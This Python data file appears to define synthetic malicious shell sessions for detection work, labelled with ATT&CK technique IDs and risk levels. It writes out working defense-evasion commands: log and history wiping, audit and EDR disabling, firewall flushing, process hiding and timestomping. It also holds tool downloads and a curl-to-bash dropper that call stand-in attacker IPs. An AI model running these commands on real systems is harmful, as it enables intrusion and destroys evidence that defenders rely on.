"""Malicious sessions: stealth and defense impairment (with the activity they cover)."""

from dsl import B, c, k, kp, p, ssh, wait, typo
from snips import chars, hexs, ps_rows

SCENARIOS = [
    ssh("history-anti-forensics", "alice.chen:deploy@app-08", style="debian",
        T="T1690 T1105 T1070.003 T1070.004",
        risk="HIGH",
        desc="Turns off shell history before fetching a tool, then clears the history list, deletes the history file and links it to /dev/null",
        steps=[
            k("unset HISTFILE; export HISTSIZE=0 HISTFILESIZE=0"),
            c("cd /dev/shm"),
            c("wget -q http://198.51.100.77/t/pspy64 -O .p && chmod +x .p"),
            c("timeout 60 ./.p -pf -i 1000 | grep -E 'UID=0.*(sh|bash) ' | head -5", """
                2025/03/08 01:02:01 CMD: UID=0     PID=212117 | /bin/sh -c /opt/backup/run-backup.sh
                2025/03/08 01:02:01 CMD: UID=0     PID=212118 | /bin/bash /opt/backup/run-backup.sh
                2025/03/08 01:02:02 CMD: UID=0     PID=212130 | /bin/sh -c tar czf /backup/etc-$(date +%F).tgz /etc""", run=60),
            c("ls -la /opt/backup/run-backup.sh", "-rwxrwxr-x 1 root deploy 412 Nov 20 10:14 /opt/backup/run-backup.sh"),
            k("history -c"),
            k("rm -f ~/.bash_history && ln -s /dev/null ~/.bash_history"),
            c("rm -f .p; cd"),
        ]),

    ssh("log-wipe-auth-wtmp", "dev.patel:root@web-08", style="plain",
        T="T1685.006 T1070 T1070.003",
        risk="HIGH-CRITICAL",
        desc="Removes the attacker's IP from auth.log, empties wtmp/btmp/lastlog, vacuums the journal and clears history",
        steps=[
            c("last -ai | head -4", """
                root     pts/0        203.0.113.45     Thu Mar 20 02:11   still logged in
                deploy   pts/1        198.51.100.23    Wed Mar 19 16:40 - 17:58  (01:17)
                deploy   pts/0        198.51.100.23    Wed Mar 19 09:12 - 12:31  (03:18)
                reboot   system boot  0.0.0.0          Mon Feb 17 06:02   still running"""),
            c(typo("grep -c 203.0.113.45 /var/log/auth.log", 32, "th"), "57"),
            k("sed -i '/203\\.0\\.113\\.45/d' /var/log/auth.log /var/log/syslog"),
            k("cat /dev/null > /var/log/wtmp; cat /dev/null > /var/log/btmp; cat /dev/null > /var/log/lastlog"),
            k("journalctl --rotate && journalctl --vacuum-time=1s", """
                Vacuuming done, freed 0B of archived journals from /run/log/journal.
                Deleted archived journal /var/log/journal/""" + hexs("mid", 32) + "/system@" + hexs("j1", 32) + """-0000000000000001-00062e1c3f0a1b2c.journal (128.0M).
                Deleted archived journal /var/log/journal/""" + hexs("mid", 32) + "/system@" + hexs("j1", 32) + """-0000000000041a77-000630a2c9b8d412.journal (96.0M).
                Vacuuming done, freed 224.0M of archived journals from /var/log/journal/""" + hexs("mid", 32) + "."),
            c("last -ai | head -2", "\nwtmp begins Thu Mar 20 02:19:44 2025"),
            k("history -c && export HISTFILE=/dev/null"),
        ]),

    ssh("auditd-rules-deleted", "julia.santos:root@pay-app-01", style="rhel",
        T="T1685.004",
        risk="HIGH-CRITICAL",
        desc="Lists the audit rules, deletes them all, disables auditing and tries to stop auditd",
        steps=[
            c(typo("auditctl -s | head -4", 5, "lt"), "enabled 2\nfailure 1\npid 911\nrate_limit 0"),
            c("auditctl -l | head -5", """
                -w /etc/passwd -p wa -k identity
                -w /etc/shadow -p wa -k identity
                -w /etc/sudoers -p wa -k scope
                -a always,exit -F arch=b64 -S execve -F euid=0 -k rootcmd
                -w /var/log/audit/ -p wa -k auditlog"""),
            k("auditctl -D", "No rules"),
            k("auditctl -e 0", "Error sending enable request (Operation not permitted)"),
            k("systemctl stop auditd", "Failed to stop auditd.service: Operation refused, unit auditd.service may be requested by dependency only (it is configured to refuse manual start/stop).\nSee system logs and 'systemctl status auditd.service' for details."),
            k("service auditd stop", "Stopping logging:                                          [  OK  ]"),
            k("sed -i 's/^-e 2/#-e 2/' /etc/audit/rules.d/audit.rules && systemctl disable auditd", "Removed \"/etc/systemd/system/multi-user.target.wants/auditd.service\"."),
        ]),

    ssh("firewall-flushed", "bob.martin:root@edge-02", style="debian",
        T="T1686",
        risk="HIGH",
        desc="Saves nothing, sets every iptables policy to ACCEPT, flushes all rules, flushes nftables and disables ufw",
        steps=[
            c("iptables -S | head -8", """
                -P INPUT DROP
                -P FORWARD DROP
                -P OUTPUT ACCEPT
                -N ufw-after-forward
                -N ufw-after-input
                -N ufw-after-logging-forward
                -N ufw-after-logging-input
                -N ufw-after-logging-output"""),
            k("iptables -P INPUT ACCEPT; iptables -P FORWARD ACCEPT; iptables -P OUTPUT ACCEPT"),
            k("iptables -F; iptables -X; iptables -t nat -F"),
            k("ufw disable", "Firewall stopped and disabled on system startup"),
            k("nft flush ruleset"),
            c("iptables -L -n | head -3", "Chain INPUT (policy ACCEPT)\ntarget     prot opt source               destination         \n"),
        ]),

    ssh("selinux-permissive", "li.wei:root@db-rhel-02", style="rhel",
        T="T1685",
        risk="HIGH",
        desc="Switches SELinux to permissive at runtime and in the config so a dropped binary is not confined",
        steps=[
            c("getenforce", "Enforcing"),
            c("ausearch -m avc -ts recent | tail -3", """
                type=PROCTITLE msg=audit(1741489011.412:8812): proctitle=2F746D702F2E646273796E63
                type=SYSCALL msg=audit(1741489011.412:8812): arch=c000003e syscall=42 success=no exit=-13 a0=3 a1=7ffc0d6a1b40 a2=10 a3=0 items=0 ppid=1 pid=77120 auid=4294967295 uid=26 gid=26 euid=26 comm=".dbsync" exe="/tmp/.dbsync" subj=system_u:system_r:postgresql_t:s0 key=(null)
                type=AVC msg=audit(1741489011.412:8812): avc:  denied  { name_connect } for  pid=77120 comm=".dbsync" dest=443 scontext=system_u:system_r:postgresql_t:s0 tcontext=system_u:object_r:http_port_t:s0 tclass=tcp_socket permissive=0"""),
            k("setenforce 0"),
            k("sed -i 's/^SELINUX=enforcing/SELINUX=permissive/' /etc/selinux/config"),
            c("sestatus | head -5", """
                SELinux status:                 enabled
                SELinuxfs mount:                /sys/fs/selinux
                SELinux root directory:         /etc/selinux
                Loaded policy name:             targeted
                Current mode:                   permissive"""),
        ]),

    ssh("edr-agents-killed", "frank.nguyen:root@api-prod-02", style="plain",
        T="T1518.001 T1057 T1685",
        risk="HIGH-CRITICAL",
        desc="Finds the security agents running on the host, stops and disables them and kills what refuses to stop",
        steps=[
            k("ps aux | grep -iE 'falcon|wazuh|osquery|auditbeat|elastic-agent|sysdig|falco' | grep -v grep", ps_rows([
                "root 1021 0.3 1.1 1203440 90412 ? Sl Feb17 210:11 /opt/CrowdStrike/falcon-sensor",
                "root 1188 0.1 0.4 812044 35120 ? Ssl Feb17 61:02 /var/ossec/bin/wazuh-agentd",
                "root 1201 0.0 0.2 744212 21004 ? Ssl Feb17 12:45 /usr/bin/osqueryd --flagfile /etc/osquery/osquery.flags --config_path /etc/osquery/osquery.conf"]).split("\n", 1)[1]),
            k("systemctl stop wazuh-agent osqueryd && systemctl disable wazuh-agent osqueryd", "Removed \"/etc/systemd/system/multi-user.target.wants/wazuh-agent.service\".\nRemoved \"/etc/systemd/system/multi-user.target.wants/osqueryd.service\"."),
            k("systemctl stop falcon-sensor", "Failed to stop falcon-sensor.service: Access denied"),
            k("kill -9 1021"),
            c("pgrep -a falcon", "31877 /opt/CrowdStrike/falcon-sensor"),
            k("chmod 000 /opt/CrowdStrike/falcon-sensor; pkill -9 -f falcon-sensor"),
            c(typo("pgrep -a falcon; echo $?", 14, "p"), "1"),
        ]),

    ssh("timestomp-dropped-binary", "nina.kowalski:root@app-09", style="debian",
        T="T1036.005 T1070.006",
        risk="HIGH",
        desc="Moves a dropped binary next to system binaries under a plausible name and copies timestamps from /bin/ls onto it",
        steps=[
            c("ls -la --time-style=long-iso /tmp/.t/", "total 3340\ndrwxr-xr-x  2 root root    4096 2025-03-14 00:41 .\ndrwxrwxrwt 12 root root    4096 2025-03-14 00:41 ..\n-rwxr-xr-x  1 root root 3411968 2025-03-14 00:41 agent"),
            k("mv /tmp/.t/agent /usr/bin/dbus-daemon-helper"),
            k("touch -r /bin/ls /usr/bin/dbus-daemon-helper"),
            k("touch -d '2024-01-22 14:37:09' /etc/cron.d/dbus-helper"),
            c("stat -c '%n %y' /usr/bin/dbus-daemon-helper /bin/ls /etc/cron.d/dbus-helper", """
                /usr/bin/dbus-daemon-helper 2024-02-07 14:56:28.000000000 +0000
                /bin/ls 2024-02-07 14:56:28.000000000 +0000
                /etc/cron.d/dbus-helper 2024-01-22 14:37:09.000000000 +0000"""),
            c("rmdir /tmp/.t"),
        ]),

    ssh("bind-mount-hide-process", "omar.haddad:root@worker-11", style="plain",
        T="T1564.013 T1057",
        risk="HIGH",
        desc="Hides a running implant from ps by bind-mounting an empty directory over its /proc entry",
        steps=[
            c("pgrep -a .sysd", "48213 /var/tmp/.sysd -c 203.0.113.45:443"),
            k("mkdir -p /var/tmp/.e && mount --bind /var/tmp/.e /proc/48213"),
            c("ps -p 48213 -o pid,cmd", "    PID CMD"),
            c("grep 48213 /proc/mounts", "tmpfs /proc/48213 tmpfs rw,nosuid,nodev,noexec,relatime 0 0"),
        ]),

    ssh("chattr-immutable-persistence", "priya.raman:root@web-09", style="debian",
        T="T1222.002 T1098.004",
        risk="HIGH",
        desc="Makes the planted authorized_keys and cron file immutable with chattr so admins cannot easily remove them",
        steps=[
            c("cat /etc/cron.d/sysstat2", "*/10 * * * * root /usr/lib/sysstat/.sa3 >/dev/null 2>&1"),
            k("chattr +i /etc/cron.d/sysstat2 /root/.ssh/authorized_keys /usr/lib/sysstat/.sa3"),
            c("lsattr /etc/cron.d/sysstat2 /root/.ssh/authorized_keys", "----i---------e------- /etc/cron.d/sysstat2\n----i---------e------- /root/.ssh/authorized_keys"),
            c("rm -f /etc/cron.d/sysstat2", "rm: cannot remove '/etc/cron.d/sysstat2': Operation not permitted"),
        ]),

    ssh("rogue-root-ca-proxy", "hiro.tanaka:root@build-04", style="debian",
        T="T1553.004 T1090.002 T1557",
        risk="HIGH",
        desc="Installs an attacker root CA system-wide and routes the build host's HTTPS through an external intercepting proxy",
        steps=[
            k("curl -fsSo /usr/local/share/ca-certificates/corp-proxy-root.crt http://198.51.100.77/c/ca.crt"),
            c("openssl x509 -in /usr/local/share/ca-certificates/corp-proxy-root.crt -noout -subject -dates", "subject=C = US, O = ACME Corp, CN = ACME Corp Proxy Root CA\nnotBefore=Mar  1 00:00:00 2025 GMT\nnotAfter=Feb 26 00:00:00 2035 GMT"),
            k("update-ca-certificates", "Updating certificates in /etc/ssl/certs...\nrehash: warning: skipping ca-certificates.crt,it does not contain exactly one certificate or CRL\n1 added, 0 removed; done.\nRunning hooks in /etc/ca-certificates/update.d...\ndone."),
            k("printf 'https_proxy=http://203.0.113.66:3128\\nhttp_proxy=http://203.0.113.66:3128\\n' >> /etc/environment"),
            c("curl -sI https://pypi.org/simple/ | head -3", "HTTP/1.1 200 Connection established\n\nHTTP/2 200 "),
        ]),

    ssh("dropper-guardrails-delay", "sam.okafor:root@pay-db-01", style="plain",
        T="T1497.001 T1480.001 T1678 T1105 T1059.004",
        risk="HIGH-CRITICAL",
        desc="Runs a dropper that checks for a VM/sandbox and for the target hostname, then sleeps an hour before fetching its payload",
        steps=[
            c("systemd-detect-virt; hostname", "kvm\npay-db-01"),
            kp("nohup bash -c '[ \"$(hostname)\" = pay-db-01 ] && ! grep -qiE \"virtualbox|vmware|qemu-ga\" /sys/class/dmi/id/product_name && sleep 3600 && curl -fsSL http://203.0.113.14/s2 | bash' >/dev/null 2>&1 &", "[1] 90771"),
            c("disown"),
            c("cat /sys/class/dmi/id/product_name", "OpenStack Compute"),
        ]),

    ssh("rsyslog-siem-forwarding-off", "grace.kim:root@log-relay-02", style="debian",
        T="T1685 T1489",
        risk="HIGH",
        desc="Comments out the rsyslog forwarding rule to the SIEM and restarts rsyslog so nothing more is shipped",
        steps=[
            c("cat /etc/rsyslog.d/60-siem.conf", "*.* action(type=\"omfwd\" target=\"siem-collector.internal\" port=\"6514\" protocol=\"tcp\" StreamDriver=\"gtls\" StreamDriverMode=\"1\")"),
            k("sed -i 's/^\\*\\.\\*/#*.*/' /etc/rsyslog.d/60-siem.conf"),
            k("systemctl restart rsyslog"),
            k("systemctl stop filebeat && systemctl mask filebeat", "Created symlink /etc/systemd/system/filebeat.service \u2192 /dev/null."),
        ]),

    ssh("hidden-dot-space-dir", "victor.ruiz:deploy@app-10", style="debian",
        T="T1564.001 T1105",
        risk="MEDIUM-HIGH",
        desc="Stages tools in a directory named '. ' (dot space) that hides among . and .. in listings",
        steps=[
            k("mkdir '/var/tmp/. ' && cd '/var/tmp/. '"),
            c("curl -fsS -O http://198.51.100.77/t/chisel -O http://198.51.100.77/t/lse.sh"),
            c("ls -la /var/tmp/", """
                total 16
                drwxrwxrwt  4 root   root   4096 Mar 11 00:22 .
                drwxrwxr-x  2 deploy deploy 4096 Mar 11 00:23 . 
                drwxr-xr-x 13 root   root   4096 Apr 12  2024 ..
                drwx------  3 root   root   4096 Feb 17 06:02 systemd-private-""" + hexs("sp", 32) + "-chrony.service-Tq0Ae1"),
            c("chmod +x chisel lse.sh"),
        ]),
]
